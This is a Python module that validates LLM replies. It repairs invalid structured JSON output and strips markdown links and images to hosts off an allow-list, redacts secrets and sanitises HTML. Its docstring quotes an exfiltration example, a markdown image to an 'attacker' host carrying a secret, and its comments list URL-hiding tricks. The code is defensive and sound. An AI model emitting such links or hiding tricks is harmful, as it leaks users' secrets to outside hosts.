"""Output validation: nothing a model writes reaches a user or a browser unchecked.

Two guards, each a small object with an event sink:

- `StructuredOutput(Schema)` asks for JSON matching a pydantic model and parses the reply. Invalid
  JSON, a schema violation or a reply cut off by `max_tokens` starts a bounded repair loop: the
  model is shown its reply and the validation errors and asked again, every attempt's tokens are
  counted, and after the last repair a typed `OutputRejected` is raised. A refusal is its own
  outcome (`ModelRefused`), never mistaken for a parse error: asking again would not help.
  The schema is sent in strict mode; a provider with constrained decoding then never returns
  invalid JSON or wrong types, but a reply cut off by the limit, a refusal, and the checks the
  schema sent does not carry (pydantic's own validators; bounds such as `ge=` that not every
  server enforces) still need this loop, and so do providers and servers without constrained
  decoding.
- `OutputGuard` makes reply text safe to show: markdown links and images to hosts not on the
  allow-list are removed (a browser fetches `![](https://attacker/?q=<secret>)` by itself when
  it renders the reply), secrets and personal data are redacted, and only then is the text cut to
  its token limit (truncating first can cut a secret in half and let its first part through).
  `safe_html()` renders the result for a browser: raw HTML escaped, the HTML sanitised by nh3.

Every decision (repaired, refused, rejected, redacted, link removed, truncated) is an event.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from typing import Any, Generic, TypeVar
from urllib.parse import urlsplit

import nh3
import openai
import pydantic
from markdown_it import MarkdownIt
from openai.lib import type_to_response_format_param

from . import redaction
from ._wrapping import check, is_whole
from .clock import SYSTEM_CLOCK, Clock
from .events import Event, EventSink, LinkRemoved, OutputVerdict, Redacted, RepairAttempt, Truncated
from .sim.models import check_model, encoding_for, whole_text

__all__ = ["StructuredOutput", "Structured", "ModelRefused", "OutputRejected", "Problem", "judge",
           "OutputGuard", "Guarded", "remove_untrusted_links", "truncate_tokens", "safe_html"]

T = TypeVar("T", bound=pydantic.BaseModel)


# --- structure -------------------------------------------------------------------------------
class ModelRefused(Exception):
    """The model declined to answer (its `refusal` field); repairing would only be refused again.
    The tokens are those of every attempt, the refused one included, so a budget can settle them."""

    def __init__(self, refusal: str, attempts: int, prompt_tokens: int = 0, completion_tokens: int = 0) -> None:
        super().__init__(f"the model refused: {refusal}")
        self.refusal, self.attempts = refusal, attempts
        self.prompt_tokens, self.completion_tokens = prompt_tokens, completion_tokens


class OutputRejected(Exception):
    """Still invalid after the last repair; `problems` lists what was wrong with each attempt."""

    def __init__(self, problems: list[Problem], prompt_tokens: int, completion_tokens: int) -> None:
        last = problems[-1]
        super().__init__(f"no valid reply after {len(problems)} attempts; last: {last.kind}: {last.detail}")
        self.problems, self.prompt_tokens, self.completion_tokens = problems, prompt_tokens, completion_tokens


@dataclass(frozen=True, slots=True)
class Problem:
    """What was wrong with one reply: kind is "invalid-json", "schema" or "length"."""

    kind: str
    detail: str


@dataclass(frozen=True, slots=True)
class Structured(Generic[T]):
    """A validated value, and what getting it cost."""

    value: T
    attempts: int
    prompt_tokens: int
    completion_tokens: int


def judge(content: str | None, finish_reason: str | None, schema: type[T]) -> T | Problem:
    """The parsed value, or the one problem that makes this reply unusable. A reply cut off by
    the token limit is a problem even when its prefix happens to parse."""
    if finish_reason == "length":
        return Problem("length", "the reply was cut off by max_tokens before it was complete")
    try:
        data = json.loads(content or "")
    except json.JSONDecodeError as error:
        return Problem("invalid-json", f"not valid JSON: {error.msg} at line {error.lineno} column {error.colno}")
    try:
        return schema.model_validate(data)
    except pydantic.ValidationError as error:
        fields = "; ".join(f"{'.'.join(map(str, e['loc'])) or '(root)'}: {e['msg']}" for e in error.errors())
        return Problem("schema", fields)


def _repair_request(content: str | None, problem: Problem) -> list[dict[str, str]]:
    """The turns that show the model its reply and what was wrong with it."""
    return [{"role": "assistant", "content": content or ""},
            {"role": "user", "content": f"That reply cannot be used ({problem.kind}: {problem.detail}). "
                                        "Answer again with only a JSON object that matches the schema."}]


class StructuredOutput(Generic[T]):
    """Ask for `schema` as JSON; repair at most `max_repairs` times, then raise OutputRejected."""

    def __init__(self, schema: type[T], *, max_repairs: int = 2, on_event: EventSink | None = None,
                 clock: Clock = SYSTEM_CLOCK, name: str = "structured-output") -> None:
        check(isinstance(max_repairs, int) and max_repairs >= 0, "max_repairs", "a whole number >= 0", max_repairs)
        self.schema, self.max_repairs = schema, max_repairs
        self.on_event, self.clock, self.name = on_event, clock, name
        self.response_format = type_to_response_format_param(schema)

    def create(self, client: Any, *, model: str, messages: Iterable[Mapping[str, Any]], **options: Any) -> Structured[T]:
        """Call `client.chat.completions.create` until a reply validates (sync client)."""
        if isinstance(client, openai.AsyncOpenAI):
            raise TypeError("create() needs a sync client; with an AsyncOpenAI client, await acreate()")
        run = _Run(self, list(messages), options)
        while True:
            completion = client.chat.completions.create(model=model, messages=run.messages,
                                                        response_format=self.response_format, **options)
            if (result := run.judge(completion)) is not None:
                return result

    async def acreate(self, client: Any, *, model: str, messages: Iterable[Mapping[str, Any]],
                      **options: Any) -> Structured[T]:
        """The same with an AsyncOpenAI client."""
        if isinstance(client, openai.OpenAI):
            raise TypeError("acreate() needs an AsyncOpenAI client; with a sync client, call create()")
        run = _Run(self, list(messages), options)
        while True:
            completion = await client.chat.completions.create(model=model, messages=run.messages,
                                                              response_format=self.response_format, **options)
            if (result := run.judge(completion)) is not None:
                return result


class _Run(Generic[T]):
    """One validated request: its growing conversation, its attempts and their tokens."""

    def __init__(self, owner: StructuredOutput[T], messages: list[Any], options: Mapping[str, Any]) -> None:
        check(not options.get("stream"), "stream", "off (a reply is validated whole)", options.get("stream"))
        self.owner, self.messages = owner, messages
        self.problems: list[Problem] = []
        self.prompt_tokens = self.completion_tokens = 0

    def judge(self, completion: Any) -> Structured[T] | None:
        """The result, None to ask again, or raise ModelRefused / OutputRejected."""
        usage, choice = completion.usage, completion.choices[0]
        self.prompt_tokens += usage.prompt_tokens if usage else 0
        self.completion_tokens += usage.completion_tokens if usage else 0
        attempt = len(self.problems) + 1
        if choice.message.refusal:
            self._verdict("refused", attempt, choice.message.refusal)
            raise ModelRefused(choice.message.refusal, attempt, self.prompt_tokens, self.completion_tokens)
        outcome = judge(choice.message.content, choice.finish_reason, self.owner.schema)
        if not isinstance(outcome, Problem):
            self._verdict("accepted" if attempt == 1 else "repaired", attempt)
            return Structured(outcome, attempt, self.prompt_tokens, self.completion_tokens)
        self.problems.append(outcome)
        if attempt > self.owner.max_repairs:
            self._verdict("rejected", attempt, f"{outcome.kind}: {outcome.detail}")
            raise OutputRejected(self.problems, self.prompt_tokens, self.completion_tokens)
        if self.owner.on_event is not None:
            self.owner.on_event(RepairAttempt(self.owner.clock.now(), self.owner.name, attempt, outcome.kind,
                                              outcome.detail, usage.prompt_tokens if usage else 0,
                                              usage.completion_tokens if usage else 0))
        self.messages = self.messages + _repair_request(choice.message.content, outcome)
        return None

    def _verdict(self, outcome: str, attempts: int, detail: str = "") -> None:
        if self.owner.on_event is not None:
            self.owner.on_event(OutputVerdict(self.owner.clock.now(), self.owner.name, outcome, attempts, detail))


# --- safe text -------------------------------------------------------------------------------
# Inline images and links `[text](url "title")` (one level of parentheses inside the URL),
# reference definitions `[id]: url` (also inside quotes and lists), autolinks `<url>`.
_INLINE = re.compile(r"(?P<bang>!?)\[(?P<text>(?:[^\[\]\\]|\\.)*)\]\(\s*<?(?P<url>(?:[^()\s<>]|\([^()\s]*\))*)>?"
                     r"(?:\s+[^)]*)?\)")
_DEFINITION = re.compile(r"^(?:[ >*+-]|\d+[.)])*\[(?P<label>(?:[^\]\\]|\\.)+)\]:\s*<?(?P<url>\S+?)>?(?:\s+.*)?$", re.M)
_REFERENCE = re.compile(r"(?P<bang>!?)\[(?P<text>[^\]]*)\]\[(?P<label>(?:[^\]\\]|\\.)*)\]")
_AUTOLINK = re.compile(r"<(?P<url>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]")
_MARKUP = re.compile(r"([\[\]<>])")
_PERMISSIVE = MarkdownIt("commonmark")  # raw HTML on, as a renderer we do not control may have it


def _plain(text: str) -> str:
    """Text as a renderer shows it, for the parts that hide secrets and URLs: character
    references that spell ordinary characters (`&#45;`, `&colon;`) decoded, invisible format
    characters (zero-width, soft hyphen, bidi controls) removed. `&lt;` and friends stay."""
    def decode(match: re.Match[str]) -> str:
        char = html.unescape(match[0])
        return char if len(char) == 1 and (char.isalnum() or char in "-_.:/@+=?%#~") else match[0]

    return _INVISIBLE.sub("", _ENTITY.sub(decode, text))


def _host(url: str) -> str:
    try:
        return (urlsplit(url.strip()).hostname or "").lower()
    except ValueError:
        return ""


def _trusted(url: str, allowed_hosts: frozenset[str]) -> bool:
    """Relative links stay on our own site; absolute ones must point at an allowed host (or a
    subdomain of one) over http(s). Read as a browser reads it: tabs and newlines dropped, a
    backslash taken for a slash (so `/\\evil.example` is another host, not a path)."""
    url = re.sub(r"[\t\n\r]", "", url).strip().replace("\\", "/")
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    if not parts.scheme and not parts.netloc:
        return True
    host = (parts.hostname or "").lower()
    return parts.scheme in ("http", "https") and any(host == h or host.endswith("." + h) for h in allowed_hosts)


def _rendered_urls(markdown: str) -> list[str]:
    """Every URL a permissive markdown renderer would put in an href or src; raw HTML that
    carries an attribute able to fetch or navigate counts as an outside URL."""
    urls: list[str] = []
    tokens = _PERMISSIVE.parse(markdown)
    for token in [t for block in tokens for t in [block, *(block.children or [])]]:
        if token.type == "link_open":
            urls.append(str(token.attrs.get("href", "")))
        elif token.type == "image":
            urls.append(str(token.attrs.get("src", "")))
        elif token.type in ("html_inline", "html_block") and re.search(
                r"\b(src|href|srcset|action|formaction|poster|background)\s*=|url\(", token.content, re.I):
            urls.append("//raw-html")
    return urls


def remove_untrusted_links(markdown: str, allowed_hosts: Iterable[str] = (),
                           on_removed: Callable[[str, str], None] | None = None, *, escape_leftovers: bool = True) -> str:
    """Markdown with every image and link to a host not on the allow-list taken out: an image
    disappears (its alt text could carry data too), a link keeps its text and loses its target,
    a link definition (`[id]: url`) goes, so no reference-style use of it can render.
    Character references that spell ordinary characters are decoded and invisible characters
    removed first (see `_plain`). The result is then parsed as a permissive renderer would parse
    it; if any outside URL or URL-carrying raw HTML is still there (nested or odd syntax), every
    `[`, `]`, `<` and `>` is escaped, so nothing in the text renders as a link, image or tag.
    `on_removed(kind, host)` is called for each removal; kind "markup" for the escape.
    (`safe_html` turns the escape off: it renders without raw HTML and filters every URL.)"""
    if isinstance(allowed_hosts, str):
        raise TypeError(f"allowed_hosts must be a collection of host names, got the string {allowed_hosts!r}")
    allowed = frozenset(h.lower() for h in allowed_hosts)
    note = on_removed or (lambda kind, host: None)
    text = _plain(markdown)
    definitions = {m["label"].lower(): m["url"] for m in _DEFINITION.finditer(text)}

    def inline(match: re.Match[str]) -> str:
        if _trusted(match["url"], allowed):
            return match[0]
        kind = "image" if match["bang"] else "link"
        note(kind, _host(match["url"]))
        return "" if kind == "image" else match["text"]

    def reference(match: re.Match[str]) -> str:
        url = definitions.get((match["label"] or match["text"]).lower())
        if url is None or _trusted(url, allowed):
            return match[0]
        note("image" if match["bang"] else "link", _host(url))
        return "" if match["bang"] else match["text"]

    def definition(match: re.Match[str]) -> str:
        if _trusted(match["url"], allowed):
            return match[0]
        note("definition", _host(match["url"]))
        return ""

    def autolink(match: re.Match[str]) -> str:
        if _trusted(match["url"], allowed):
            return match[0]
        note("link", _host(match["url"]))
        return "[link removed]"

    for _ in range(3):  # removing an inner image can expose an outer one: ![![x](a)](b)
        before = text
        text = _AUTOLINK.sub(autolink, _DEFINITION.sub(definition, _REFERENCE.sub(reference, _INLINE.sub(inline, text))))
        if text == before:
            break
    if escape_leftovers and any(not _trusted(url, allowed) for url in _rendered_urls(text)):
        note("markup", "")
        text = _MARKUP.sub(r"\\\1", text)
    return text


def truncate_tokens(text: str, model: str, max_tokens: int) -> tuple[str, bool]:
    """At most `max_tokens` of `model`'s tokens, cut at a token boundary that is also a whole
    character; and whether anything was cut."""
    check_model(model)
    check(is_whole(max_tokens) and max_tokens >= 0, "max_tokens",
          "a whole number >= 0", max_tokens)
    tokens = encoding_for(model).encode(text)
    if len(tokens) <= max_tokens:
        return text, False
    return whole_text(tokens[:max_tokens], model), True


_MARKDOWN = MarkdownIt("commonmark", {"html": False})  # raw HTML in a reply is shown as text


def safe_html(markdown: str, allowed_hosts: Iterable[str] = ()) -> str:
    """HTML for a browser: untrusted links and images removed first, raw HTML escaped by the
    markdown renderer, then the result sanitised by nh3 (only plain formatting tags, http(s)
    links, which also get rel="noopener noreferrer")."""
    check(not isinstance(allowed_hosts, str), "allowed_hosts", "a collection of host names, not one string",
          allowed_hosts)
    allowed = list(allowed_hosts)
    rendered = _MARKDOWN.render(remove_untrusted_links(markdown, allowed, escape_leftovers=False))
    return nh3.clean(rendered, url_schemes={"http", "https"},
                     attribute_filter=lambda tag, attr, value: value if attr not in ("href", "src")
                     or _trusted(value, frozenset(allowed)) else None)


@dataclass(frozen=True, slots=True)
class Guarded:
    """Reply text made safe, and what was done to it."""

    text: str
    redacted: int
    links_removed: int
    truncated: bool


class OutputGuard:
    """Makes reply text safe: untrusted links out (character references and invisible characters
    that could hide a URL or a key undone first), secrets and personal data redacted, then cut
    to `max_tokens` of `model`'s tokens (redact first, then truncate; a cut never ends inside a
    placeholder)."""

    def __init__(self, *, model: str, max_tokens: int, allowed_hosts: Iterable[str] = (),
                 on_event: EventSink | None = None, clock: Clock = SYSTEM_CLOCK, name: str = "output-guard") -> None:
        check_model(model)
        check(is_whole(max_tokens) and max_tokens >= 1, "max_tokens",
              "a whole number >= 1", max_tokens)
        check(not isinstance(allowed_hosts, str), "allowed_hosts", "a collection of host names, not one string",
              allowed_hosts)
        self.model, self.max_tokens = model, max_tokens
        self.allowed_hosts = frozenset(h.lower() for h in allowed_hosts)
        self.on_event, self.clock, self.name = on_event, clock, name

    def check(self, text: str) -> Guarded:
        removed = redacted = 0

        def note(kind: str, host: str) -> None:
            nonlocal removed
            removed += 1
            if self.on_event is not None:
                self.on_event(LinkRemoved(self.clock.now(), self.name, kind, host))

        def count(event: Event) -> None:  # redaction reports each kind it replaced
            nonlocal redacted
            redacted += event.count if isinstance(event, Redacted) else 0
            if self.on_event is not None:
                self.on_event(event)

        text = remove_untrusted_links(text, self.allowed_hosts, note)
        text = redaction.redact(text, on_event=count, clock=self.clock)
        tokens = encoding_for(self.model).encode(text)
        cut = len(tokens) > self.max_tokens
        if cut:
            text = whole_text(tokens[:self.max_tokens], self.model)
            start = text.rfind("[")  # never end on a piece of a placeholder: "[REDACT"
            if start != -1 and "]" not in text[start:] and "[REDACTED:".startswith(text[start:start + 10]):
                text = text[:start].rstrip()
            if self.on_event is not None:
                self.on_event(Truncated(self.clock.now(), self.name, len(tokens), self.max_tokens))
        return Guarded(text, redacted, removed, cut)
